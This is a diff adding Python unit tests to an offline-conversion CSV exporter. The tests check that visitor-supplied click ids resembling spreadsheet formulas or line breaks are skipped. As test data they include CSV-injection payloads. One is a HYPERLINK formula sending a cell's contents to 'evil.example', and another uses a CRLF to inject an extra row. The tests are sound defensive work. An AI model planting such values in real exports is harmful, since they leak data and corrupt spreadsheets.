@@ -87,9 +87,32 @@ class TestOfflineConversions(IntakeCase):
                                "Conversion Currency\r\n"
                                f"Cj0-first,Покупка,2025-11-30 23:59:59,1500.50,{currency}\r\n")
 
+    def test_ids_a_browser_was_made_to_send_are_left_out(self):
+        """Click ids come from the visitors' browsers through the public API: one that a spreadsheet
+        would run as a formula, or that breaks a line, is not written, and the wizard says how many."""
+        day = datetime(2025, 11, 3, 10, 0)
+        self._sale({"phone": "+79160001010", "gclid": "Cj0-good_1"}, 100, day)
+        for index, hostile in enumerate(('=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1+1)",
+                                         "\t=1+1", "Cj0\r\nevil,row")):
+            self._sale({"phone": f"+7916000102{index}", "gclid": hostile}, 100, day)
+        wizard, text = self._export(system="google_ads", goal="Покупка")
+        self.assertEqual((wizard.conversion_count, wizard.skipped_count), (1, 6))
+        self.assertEqual(text.splitlines()[2:], [f"Cj0-good_1,Покупка,2025-11-03 13:00:00,100.00,"
+                                                 f"{self.env.company.currency_id.name}"])
+        with self.assertRaises(UserError):
+            self._export(system="google_ads", goal="=1+1")
+
     def test_nothing_to_export_is_said(self):
         with self.assertRaises(UserError):
             self._export()
+
+    def test_id_forms_in_plain_python(self):
+        conversions = [{"id": value} for value in ("1700000000111", "=1+1", "12a", "Cj0-x_Y", "1\n2")]
+        self.assertEqual(offline_conversions.valid_ids(conversions, "client_id"), ([conversions[0]], 4))
+        self.assertEqual(offline_conversions.valid_ids(conversions, "gclid"), ([conversions[0], conversions[2],
+                                                                             conversions[3]], 2))
+        self.assertTrue(all(map(offline_conversions.formula_like, ("=A1", "+1", "-1", "@A", "\tx", "a\nb"))))
+        self.assertFalse(offline_conversions.formula_like("order_paid"))
 
     def test_formats_in_plain_python(self):
         conversions = [{"id": "abc", "time": datetime(2024, 1, 5, 11, 30), "value": 1000, "currency": "RUB"}]
